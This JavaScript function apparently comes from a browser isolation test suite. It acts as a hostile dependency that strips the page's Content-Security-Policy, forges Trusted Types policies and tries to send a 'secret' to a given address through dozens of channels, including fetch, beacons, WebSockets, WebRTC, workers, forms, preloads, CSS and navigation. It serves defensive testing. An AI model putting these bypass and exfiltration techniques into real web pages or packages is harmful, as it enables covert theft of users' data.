// A hostile script inside the page, as a malicious dependency would be. It tries
// one way out of the page towards an address, in several spellings, from the page
// itself and from an empty frame, which brings back whatever the page has removed
// from its own window. It answers with the number of its attempts.
(channel, url) => {
  const host = (url) => new URL(url).host;

  // The policy in the head is taken away, and a permissive one put there.
  document.querySelectorAll("meta[http-equiv]").forEach((e) => e.remove());
  const permissive = document.createElement("meta");
  permissive.httpEquiv = "Content-Security-Policy";
  permissive.content = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'";
  document.head.append(permissive);

  const frame = document.createElement("iframe");
  const goal = document.createElement("iframe");
  goal.name = "goal-" + channel;
  document.body.append(frame, goal);

  // Trusted Types: a policy of our own, under any name that may be allowed.
  const anything = { createHTML: (s) => s, createScript: (s) => s, createScriptURL: (s) => s };
  let trusted = anything;
  for (const w of [window, frame.contentWindow]) {
    for (const name of ["default", "hostile", "goog#html", "dompurify", "'allow-duplicates'", "*"]) {
      try {
        trusted = w.trustedTypes.createPolicy(name, anything);
      } catch (_) {}
    }
  }

  // Elements, made in the document of the window w.
  const make = (w, name, properties) => Object.assign(w.document.createElement(name), properties);
  const add = (w, name, properties) => {
    const e = make(w, name, properties);
    (name === "link" || name === "script" ? w.document.head : w.document.body).append(e);
    return e;
  };
  const link = (w, properties) => add(w, "link", properties);
  const style = (w, property, url) => (add(w, "p", { textContent: "x" }).style[property] = `url(${url})`);
  const rules = (w, text) => {
    const sheet = new w.CSSStyleSheet();
    sheet.replaceSync(text);
    w.document.adoptedStyleSheets = [...w.document.adoptedStyleSheets, sheet];
  };
  const script = (w, type, text) => {
    const e = make(w, "script", { type });
    try {
      e.text = trusted.createScript(text);
    } catch (_) {
      e.append(text); // past the setter, which refuses a string
    }
    w.document.head.append(e);
  };
  const svg = (w, name, attribute, url) => {
    const space = "http://www.w3.org/2000/svg";
    const root = w.document.createElementNS(space, "svg");
    const e = w.document.createElementNS(space, name);
    e.setAttribute(attribute, url);
    e.setAttribute("width", "9");
    e.setAttribute("height", "9");
    if (name.startsWith("fe")) {
      const filter = w.document.createElementNS(space, "filter");
      filter.id = "f" + Math.random().toString(36).slice(2);
      const shown = w.document.createElementNS(space, "rect");
      shown.setAttribute("width", "9");
      shown.setAttribute("height", "9");
      shown.setAttribute("filter", `url(#${filter.id})`);
      filter.append(e);
      root.append(filter, shown);
    } else {
      root.append(e);
    }
    w.document.body.append(root);
  };
  const click = (w, name, properties, event = {}) =>
    add(w, name, { textContent: "x", ...properties }).dispatchEvent(
      new w.MouseEvent("click", { bubbles: true, cancelable: true, view: w, ...event }),
    );
  const form = (w, url, properties) => {
    const e = add(w, "form", { action: url, ...properties });
    e.append(make(w, "input", { name: "secret", value: "1" }), make(w, "button", { formAction: url }));
    return e;
  };

  // What a worker does once it runs.
  const work = (url) => `
    try { fetch("${url}", {mode: "no-cors"}).catch(() => {}) } catch (_) {}
    try { new WebSocket("${url.replace(/^http/, "ws")}") } catch (_) {}
    try { importScripts("${url}") } catch (_) {}`;
  const blob = (w, text) => w.URL.createObjectURL(new w.Blob([text], { type: "text/javascript" }));
  const workers = (w, address) => [
    () => new w.Worker(address),
    () => new w.Worker(trusted.createScriptURL(address)),
    () => new w.Worker(trusted.createScriptURL(address), { type: "module" }),
    () => new w.SharedWorker(trusted.createScriptURL(address)),
    () => w.navigator.serviceWorker.register(trusted.createScriptURL(address)),
    () => w.CSS.paintWorklet.addModule(address),
    () => new w.OfflineAudioContext(1, 9, 9999).audioWorklet.addModule(address),
  ];

  const call = (w, urls) => {
    const Connection = w.RTCPeerConnection || w.webkitRTCPeerConnection || w.mozRTCPeerConnection;
    const c = new Connection({ iceServers: [{ urls, username: "secret", credential: "secret" }], iceCandidatePoolSize: 1 });
    c.createDataChannel("secret");
    return c.createOffer().then((offer) => c.setLocalDescription(offer));
  };

  /** Each channel's attempts, from the window w to the address url. */
  const channels = {
    fetch: (w, url) => [
      () => w.fetch(url),
      () => w.fetch(url, { method: "POST", mode: "no-cors", body: "secret", keepalive: true }),
      () => w.fetchLater(url, { activateAfter: 0 }),
      () => w.caches.open("hostile").then((c) => c.add(url)),
      () => w.navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: "secret" }] } }),
      () => new w.PaymentRequest([{ supportedMethods: url }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).show(),
    ],
    xhr: (w, url) =>
      [true, false].map((asynchronous) => () => {
        const request = new w.XMLHttpRequest();
        request.open("POST", url, asynchronous);
        request.send("secret");
      }),
    beacon: (w, url) => [() => w.navigator.sendBeacon(url, "secret"), () => w.navigator.sendBeacon(url)],
    websocket: (w, url) => [
      () => new w.WebSocket(url.replace(/^http/, "ws")),
      () => new w.WebSocket(url),
      () => new w.WebSocketStream(url.replace(/^http/, "ws")),
      () => new w.WebTransport(url.replace(/^http:/, "https:")),
    ],
    eventsource: (w, url) => [() => new w.EventSource(url)],
    img: (w, url) => [
      () => (new w.Image().src = url),
      () => (new w.Image().srcset = url + " 1x"),
      () => add(w, "input", { type: "image", src: url }),
      () => add(w, "video", { poster: url }),
      () => (w.document.body.background = url),
      () => (w.navigator.mediaSession.metadata = new w.MediaMetadata({ artwork: [{ src: url }] })),
      () => new w.Notification("x", { icon: url }),
    ],
    "css-image": (w, url) => [
      ...["backgroundImage", "listStyleImage", "cursor", "maskImage", "borderImageSource", "content"].map((p) => () => style(w, p, url)),
      () => rules(w, `body { background-image: url(${url}) }`),
      () => rules(w, `p::before { content: image-set(url(${url}) 1x) }`),
      () => w.document.styleSheets[0].insertRule(`body { background-image: url(${url}) }`),
    ],
    font: (w, url) => [
      () => new w.FontFace("hostile", `url(${url})`).load(),
      () => rules(w, `@font-face { font-family: hostile; src: url(${url}) } p { font-family: hostile }`),
    ],
    media: (w, url) => [
      () => new w.Audio(url).play(),
      () => add(w, "video", { src: url, preload: "auto" }),
      () => add(w, "video", { preload: "auto" }).append(make(w, "source", { src: url })),
      () => add(w, "video", {}).append(make(w, "track", { src: url, default: true })),
    ],
    iframe: (w, url) => [
      () => add(w, "iframe", { src: url }),
      () => add(w, "frame", { src: url }),
      () => add(w, "fencedframe", { config: new w.FencedFrameConfig(url) }),
      () => (add(w, "iframe", {}).contentWindow.location = url),
      () => add(w, "iframe", { srcdoc: trusted.createHTML(`<meta http-equiv="refresh" content="0; url=${url}">`) }),
      () => add(w, "iframe", { src: "data:text/html," + encodeURIComponent(`<img src="${url}">`) }),
      () => add(w, "iframe", { src: w.URL.createObjectURL(new w.Blob([`<img src="${url}">`], { type: "text/html" })) }),
    ],
    object: (w, url) => [() => add(w, "object", { data: url }), () => add(w, "embed", { src: trusted.createScriptURL(url) })],
    script: (w, url) => [
      () => add(w, "script", { src: url }),
      () => add(w, "script", { src: trusted.createScriptURL(url) }),
      () => add(w, "script", { src: trusted.createScriptURL(url), type: "module" }),
      () => import(url),
      () => svg(w, "script", "href", trusted.createScriptURL(url)),
      () => w.eval(trusted.createScript(`fetch("${url}")`)),
      () => script(w, "text/javascript", `fetch("${url}")`),
      () => w.setTimeout(`fetch("${url}")`, 0),
    ],
    stylesheet: (w, url) => [
      () => link(w, { rel: "stylesheet", href: url }),
      () => add(w, "style", { textContent: `@import url(${url})` }),
      () => w.document.styleSheets[0].insertRule(`@import url(${url})`),
    ],
    prefetch: (w, url) => [
      () => link(w, { rel: "prefetch", href: url }),
      () => link(w, { rel: "prefetch", as: "document", href: url }),
      () => link(w, { rel: "prerender", href: url }),
      () => link(w, { rel: "compression-dictionary", href: url }),
    ],
    preload: (w, url) => [
      ...["image", "script", "style", "font", "fetch", "track"].map((as) => () => link(w, { rel: "preload", as, href: url, crossOrigin: as === "font" ? "" : null })),
      () => link(w, { rel: "modulepreload", href: url }),
    ],
    icon: (w, url) => [
      () => w.document.querySelectorAll("link[rel~=icon]").forEach((e) => (e.href = url)),
      () => link(w, { rel: "icon", href: url }),
      () => link(w, { rel: "shortcut icon", href: url }),
      () => link(w, { rel: "apple-touch-icon", href: url }),
    ],
    manifest: (w, url) => [
      () => w.document.querySelectorAll("link[rel=manifest]").forEach((e) => (e.href = url)),
      () => link(w, { rel: "manifest", href: url }),
    ],
    preconnect: (w, url) => [
      () => link(w, { rel: "preconnect", href: url }),
      () => link(w, { rel: "preconnect", href: url, crossOrigin: "" }),
      () => link(w, { rel: "dns-prefetch", href: url }),
    ],
    form: (w, url) => [
      () => form(w, url, { method: "post", target: goal.name }).submit(),
      () => form(w, url, { method: "get", target: goal.name }).submit(),
      () => form(w, url, { method: "post", target: "_blank" }).requestSubmit(),
      () => form(w, "", { method: "post", target: "_blank" }).querySelector("button").click(),
    ],
    "window-open": (w, url) => [
      () => w.open(url),
      () => w.open(url, "_blank", "noopener"),
      () => w.open(url, "_blank", "popup"),
      () => (w.open("about:blank").location = url),
    ],
    ping: (w, url) => [() => click(w, "a", { ping: url, href: "#ping" }), () => click(w, "area", { ping: url, href: "#ping" })],
    "target-blank": (w, url) => [
      () => click(w, "a", { target: "_blank", href: url }),
      () => click(w, "a", { target: "_blank", rel: "opener", href: url }),
      () => click(w, "a", { target: "_blank", href: url, download: "x" }),
    ],
    "svg-image": (w, url) => [
      () => svg(w, "image", "href", url),
      () => svg(w, "use", "href", url + "#x"),
      () => svg(w, "feImage", "href", url),
    ],
    worker: (w, url) => [...workers(w, "data:text/javascript," + encodeURIComponent(work(url))), ...workers(w, url)],
    "blob-worker": (w, url) => workers(w, blob(w, work(url))),
    "speculation-rules": (w, url) =>
      ["prefetch", "prerender"].map((what) => () => script(w, "speculationrules", JSON.stringify({ [what]: [{ urls: [url], eagerness: "immediate" }] }))),
    webrtc: (w, url) => ["stun:$", "turn:$?transport=udp", "turn:$?transport=tcp"].map((server) => () => call(w, server.replace("$", host(url)))),
    navigation: (w, url) => [
      () => click(window, "a", { href: url, download: "x" }),
      () => (window.location.href = url),
      () => window.location.replace(url),
      () => click(window, "a", { href: url }),
      () => click(window, "a", { href: url }, { ctrlKey: true }), // a new tab, or this one where tabs are forbidden
      () => form(window, url, { method: "get" }).submit(),
      () => window.navigation.navigate(url),
      () => (add(window, "meta", { httpEquiv: "refresh" }).content = "0; url=" + url),
      () => w.parent.location.assign(url),
    ],
  };

  // Each attempt has an address of its own, which names it.
  const attempts = [];
  for (const w of [window, frame.contentWindow]) {
    const from = w === window ? "page" : "frame";
    for (const i of channels[channel](w, url).keys()) attempts.push(channels[channel](w, `${url}?secret=${channel}-${from}-${i}`)[i]);
  }
  attempts.forEach((attempt, i) => {
    const start = () => {
      try {
        Promise.resolve(attempt()).catch(() => {});
      } catch (_) {}
    };
    // One that leaves the page would be replaced by the next; a call from a frame
    // freezes Chromium under our headers, before or after it has answered the test.
    if (channel === "navigation") setTimeout(start, 100 * i);
    else if (channel === "webrtc") setTimeout(start, 100);
    else start();
  });
  return attempts.length;
}
